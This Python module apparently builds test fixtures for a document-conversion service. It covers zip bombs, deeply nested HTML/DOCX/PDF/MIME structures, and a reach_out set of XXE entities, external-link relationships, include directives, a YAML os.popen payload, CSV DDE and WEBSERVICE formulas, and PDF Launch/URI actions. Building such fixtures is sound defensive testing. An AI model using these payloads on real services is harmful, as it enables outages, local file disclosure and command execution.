"""Files that are built to stop the service."""

import io
import zipfile
import zlib
from collections.abc import Callable

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ODF = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'


def pack(parts: dict[str, str | bytes], *, first: tuple[str, str] | None = None) -> bytes:
    """Return a ZIP archive; `first` is a part that is stored uncompressed, at the beginning."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        if first:
            archive.writestr(zipfile.ZipInfo(first[0]), first[1])
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def docx(body: str, part: str = "word/document.xml", /, **more: str | bytes) -> bytes:
    """Return a Word file with this body."""
    types = f'<Types xmlns="{TYPES}"><Override PartName="/{part}" ContentType="{WORD}"/></Types>'
    rels = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}" Target="{part}"/></Relationships>'
    )
    document = f"<w:document {W}><w:body>{body}</w:body></w:document>"
    named = {} if part == "word/document.xml" else {"word/document.xml": f"<w:document {W}/>"}
    return pack({"[Content_Types].xml": types, "_rels/.rels": rels, part: document, **named, **more})


def paragraph(text: str, properties: str = "") -> str:
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


def merged_rows(count: int) -> str:
    cell = f"<w:tc><w:tcPr><w:vMerge/></w:tcPr>{paragraph('x')}</w:tc>"
    return f"<w:tbl>{f'<w:tr>{cell}</w:tr>' * count}</w:tbl>"


def nested_tables(depth: int) -> str:
    return "<w:tbl><w:tr><w:tc>" * depth + paragraph("x") + "</w:tc></w:tr></w:tbl>" * depth


def xlsx(rows: str, dimension: str = "A1:B2", **more: str | bytes) -> bytes:
    """Return a workbook with these rows."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEET}"><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>',
    }
    return pack({**parts, **more})


def odt(body: str) -> bytes:
    content = f"<office:document-content {ODF}><office:body><office:text>{body}</office:text></office:body></office:document-content>"
    manifest = '<manifest xmlns="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    return pack(
        {"META-INF/manifest.xml": manifest, "content.xml": content},
        first=("mimetype", "application/vnd.oasis.opendocument.text"),
    )


def epub(chapter: str, times: int = 1) -> bytes:
    container = '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="p.opf"/></rootfiles></container>'
    items = "".join(f'<item id="c{n}" href="c{n}.xhtml" media-type="application/xhtml+xml"/>' for n in range(times))
    spine = "".join(f'<itemref idref="c{n}"/>' for n in range(times))
    package = (
        f'<package xmlns="http://www.idpf.org/2007/opf"><manifest>{items}</manifest><spine>{spine}</spine></package>'
    )
    chapters: dict[str, str | bytes] = {f"c{n}.xhtml": chapter for n in range(times)}
    parts: dict[str, str | bytes] = {"META-INF/container.xml": container, "p.opf": package}
    return pack(parts | chapters, first=("mimetype", "application/epub+zip"))


def pdf(objects: dict[int, bytes]) -> bytes:
    """Return a PDF of these objects; 1 is the catalogue."""
    written = b"%PDF-1.7\n"
    starts = {}
    for number, content in objects.items():
        starts[number] = len(written)
        written += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % starts[number] for number in sorted(starts))
    trailer = b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(written))
    return written + table + trailer


def stream(content: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n%s\nendstream" % (len(packed), more, packed)


def pdf_page(content: bytes, resources: bytes = b"", **forms: bytes) -> bytes:
    """Return a PDF with one page; `forms` are further objects, from number 6 on."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> %s >> >>"
        % resources,
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    return pdf(objects | {6 + number: form for number, form in enumerate(forms.values())})


def nested_forms(depth: int, width: int) -> bytes:
    """Return a PDF whose page shows width to the power of depth words."""
    forms = {}
    for level in range(depth):
        inner = b"/Resources << /XObject << /X %d 0 R >> /Font << /F 5 0 R >> >>" % (7 + level)
        show = b"BT /F 9 Tf (word) Tj ET" if level == depth - 1 else b"/X Do " * width
        forms[f"f{level}"] = stream(show, b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] " + inner)
    return pdf_page(b"/X Do " * width, b"/XObject << /X 6 0 R >>", **forms)


def mail(body: str, kind: str = "text/plain") -> bytes:
    return f"From: a@b.c\nDate: Mon, 1 Jan 2024 10:00:00 +0000\nSubject: x\nMIME-Version: 1.0\nContent-Type: {kind}\n\n{body}".encode()


def pptx(slide: str, relations: str = "") -> bytes:
    """Return a presentation with one slide."""
    names = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    kind = "application/vnd.openxmlformats-officedocument.presentationml"
    office = OFFICE.rpartition("/")[0]
    return pack(
        {
            "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/ppt/presentation.xml" ContentType="{kind}.presentation.main+xml"/><Override PartName="/ppt/slides/slide1.xml" ContentType="{kind}.slide+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{OFFICE}" Target="ppt/presentation.xml"/></Relationships>',
            "ppt/presentation.xml": f'<p:presentation {names}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>',
            "ppt/_rels/presentation.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" Type="{office}/slide" Target="slides/slide1.xml"/></Relationships>',
            "ppt/slides/slide1.xml": f"<p:sld {names}><p:cSld><p:spTree><p:nvGrpSpPr/><p:grpSpPr/>{slide}</p:spTree></p:cSld></p:sld>",
            "ppt/slides/_rels/slide1.xml.rels": f'<Relationships xmlns="{RELATIONS}">{relations}</Relationships>',
        }
    )


def shape(text: str) -> str:
    return f'<p:sp><p:nvSpPr><p:cNvPr id="2" name="s"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>'


def reach_out(path: str, address: str) -> dict[str, bytes]:
    """Return files that name another file of the machine and an address, for a reader that would open them."""
    entity = f'<!DOCTYPE x [<!ENTITY f SYSTEM "file://{path}"><!ENTITY u SYSTEM "{address}/entity">]>'
    subset = f'<!DOCTYPE x SYSTEM "{address}/dtd" [<!ENTITY % p SYSTEM "file://{path}"> %p;]>'
    picture = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    linked = f'<Relationship Id="rId9" Type="{picture}" Target="{address}/picture" TargetMode="External"/><Relationship Id="rId8" Type="{picture}" Target="file://{path}" TargetMode="External"/>'
    drawing = '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rId9" r:embed="rId8"/>'
    directives = (
        f".. include:: {path}",
        f".. raw:: html\n   :file: {path}",
        f".. raw:: html\n   :url: {address}/raw",
        f".. csv-table:: t\n   :file: {path}",
        f".. csv-table:: t\n   :url: {address}/table",
        f".. literalinclude:: {path}",
        f".. figure:: {address}/figure",
        f".. image:: file://{path}",
        f".. code-include:: {path}",
        ".. role:: raw-html(raw)\n   :format: html",
        f".. list-table:: t\n   :file: {path}",
        f".. math::\n   :file: {path}",
        f".. plantuml:: {path}",
    )
    page = (
        f"<html><head><base href='{address}/'><link rel=stylesheet href='{address}/style'>"
        f"<meta http-equiv=refresh content='0;url={address}/next'></head><body><p>text</p><img src='{address}/picture'>"
        f"<iframe src='file://{path}'></iframe><object data='file://{path}'></object><script src='{address}/script'></script>"
        f"<svg><use href='{address}/use'/><image href='file://{path}'/></svg></body></html>"
    )
    rooted = path.removeprefix("/")
    sheet = xlsx('<row r="1"><c r="A1" t="inlineStr"><is><t>text &f; &u;</t></is></c></row>')
    return {
        "outside.rst": "\n\n".join(("text", *directives)).encode(),
        "outside.html": page.encode(),
        "outside.md": f"---\ntitle: !!python/object/apply:os.popen ['cat {path}']\n---\n\n![a]({address}/picture)\n\n{{% include {path} %}}\n\ntext\n".encode(),
        "outside.docx": docx(
            paragraph("text") + f"<w:p><w:r>{drawing}</w:r></w:p>",
            **{
                "word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{linked}<Relationship Id="rId7" Type="{OFFICE.rpartition("/")[0]}/attachedTemplate" Target="{address}/template" TargetMode="External"/></Relationships>'
            },
        ),
        "entity.docx": _retyped(docx(paragraph("text &f; &u;")), "word/document.xml", entity),
        "outside.pptx": pptx(
            shape("text")
            + f"<p:pic><p:nvPicPr><p:cNvPr id='3' name='p'/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>{drawing}</p:blipFill><p:spPr/></p:pic>",
            linked,
        ),
        "entity.pptx": _retyped(pptx(shape("text &f; &u;")), "ppt/slides/slide1.xml", entity),
        "entity.xlsx": _retyped(
            sheet,
            "xl/worksheets/sheet1.xml",
            entity,
        ),
        "entity.odt": _retyped(odt("<text:p>text &f; &u;</text:p>"), "content.xml", entity),
        "outside.epub": _rewritten(
            epub("<html><body><p>text</p></body></html>"),
            "p.opf",
            lambda package: (
                package.replace('href="c0.xhtml"', f'href="../../../../{rooted}"')
                .replace(
                    "<manifest>",
                    f'<manifest><item id="u" href="{address}/chapter" media-type="application/xhtml+xml"/>',
                )
                .replace("<spine>", '<spine><itemref idref="u"/>')
            ),
        ),
        "entity.epub": _retyped(epub("<html><body><p>text &f; &u;</p></body></html>"), "c0.xhtml", entity),
        "subset.docx": _retyped(docx(paragraph("text &f; &u;")), "word/document.xml", subset),
        "subset.xlsx": _retyped(sheet, "xl/worksheets/sheet1.xml", subset),
        "subset.odt": _retyped(odt("<text:p>text &f; &u;</text:p>"), "content.xml", subset),
        "outside.rtf": (
            r"{\rtf1 text {\field{\*\fldinst INCLUDETEXT "
            + f'"{path}"'
            + r"}{\fldrslt x}}{\field{\*\fldinst INCLUDEPICTURE "
            + f'"{address}/picture"'
            + r"}{\fldrslt y}}{\*\template "
            + f"{address}/template"
            + "}}"
        ).encode(),
        "outside.eml": mail(
            f'--b\nContent-Type: message/external-body; access-type=local-file; name="{path}"\n\n\n--b\nContent-Type: text/html\n\n{page}\n--b--',
            "multipart/mixed; boundary=b",
        ),
        "outside.tex": rf"text \input{{{path}}}\include{{{path}}}\verbatiminput{{{path}}}\includegraphics{{{path}}}".encode(),
        "outside.org": f'text\n\n#+INCLUDE: "{path}"\n#+INCLUDE: "{path}" src\n[[file:{path}]]\n'.encode(),
        "outside.adoc": f"text\n\ninclude::{path}[]\n\nimage::{address}/picture[]\n".encode(),
        "outside.mediawiki": f"text {{{{:{path}}}}} [[File:{path}]] <include src='{path}'/>".encode(),
        "outside.dbk": f"<book xmlns:xi='http://www.w3.org/2001/XInclude'><para>text</para><xi:include parse='text' href='{path}'/></book>".encode(),
        "entity.opml": f"{entity}<opml><body><outline text='text &f; &u;'/></body></opml>".encode(),
        "outside.man": f".TH A 1\n.SH text\n.so {path}\n.PSPIC {path}\n.mso {path}\n".encode(),
        "outside.csv": f'a,b\n"=WEBSERVICE(""{address}/cell"")",1\n"=cmd|\' /C calc\'!A0",2\n'.encode(),
        "outside.pdf": pdf_page(b"BT /F 9 Tf 10 10 Td (text) Tj ET").replace(
            b"/Type /Catalog",
            f"/Type /Catalog /OpenAction << /S /URI /URI ({address}/open) >> /AA << /O << /S /Launch /F ({path}) >> >>".encode(),
        ),
    }


def _rewritten(data: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """Return the archive with one part changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts[part] = change(parts[part].decode()).encode()
    first = parts.pop("mimetype", None)
    return pack(dict(parts), first=("mimetype", first.decode()) if first else None)


def _retyped(data: bytes, part: str, kind: str) -> bytes:
    """Return the archive with a document type in front of a part."""
    return _rewritten(data, part, lambda xml: kind + xml)


def nested_parts(depth: int) -> bytes:
    body = "".join(f"--b{n}\nContent-Type: multipart/mixed; boundary=b{n + 1}\n\n" for n in range(depth))
    return mail(body, "multipart/mixed; boundary=b0")


FILES: dict[str, Callable[[], bytes]] = {
    "spaces-in-front-matter.md": lambda: b"---\ntitle: a" + b" " * 34_000 + b"b\n---",
    "deep-front-matter.md": lambda: b"---\na: " + b"[" * 30_000 + b"\n---\ntext",
    "brackets.md": lambda: b"[" * 50_000,
    "divs.md": lambda: b"<div>\n\n" * 30_000,
    "nested-b.html": lambda: b"<html>" + b"".join(b"<b id=%d><p>" % n for n in range(3_000)),
    "nested-b-twice.html": lambda: b"<html>" + b"".join(b"<b id=%d><p>" % n for n in range(6_000)),
    "nested-main.html": lambda: b"<html>" + b"<main>" * 20_000 + b"text",
    "attributes.html": lambda: b"<html><p " + b"".join(b"a%d=b " % n for n in range(300_000)) + b">text",
    "merged-rows.docx": lambda: docx(merged_rows(900)),
    "merged-rows-many.docx": lambda: docx(merged_rows(20_000)),
    "wide-cell.docx": lambda: docx(f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="50000000"/></w:tcPr>{paragraph("x")}</w:tc></w:tr></w:tbl>'),
    "body-in-a-binary-part.docx": lambda: docx(paragraph("word ") * 1_500_000, "word/d.bin"),
    "empty-paragraphs.docx": lambda: docx("<w:p/>" * 666_000),
    "nested-tables.docx": lambda: docx(nested_tables(80)),
    "nested-forms.pdf": lambda: nested_forms(8, 10),
    "nested-forms-endless.pdf": lambda: nested_forms(20, 10),
    "inflating-content.pdf": lambda: pdf_page(b"BT /F 9 Tf 10 10 Td " + b"(a) Tj " * 3_000_000 + b"ET"),
    "page-tree-in-a-circle.pdf": lambda: pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"}),
    "merged.xlsx": lambda: xlsx('<row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells><sheetData>'),
    "zip-bomb.pptx": lambda: pack({"ppt/presentation.xml": "<p>" + " " * 100_000_000 + "</p>"}),
    "multiparts.eml": lambda: nested_parts(1_000),
}  # fmt: skip
